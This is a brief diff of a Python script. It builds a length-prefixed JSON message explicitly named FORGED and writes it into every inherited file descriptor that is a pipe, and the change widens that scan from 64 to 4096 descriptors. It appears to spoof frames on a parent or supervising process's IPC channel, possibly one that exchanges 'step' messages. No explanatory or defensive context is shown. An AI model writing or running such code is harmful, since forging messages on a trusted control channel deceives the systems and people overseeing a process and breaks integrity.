@@ -15,7 +15,7 @@ else:
     body = json.dumps(step).encode()
     FORGED = struct.pack("!I", len(body)) + body
 
-for fd in range(3, 64):
+for fd in range(3, 4096):
     try:
         if stat.S_ISFIFO(os.fstat(fd).st_mode):
             os.write(fd, FORGED)
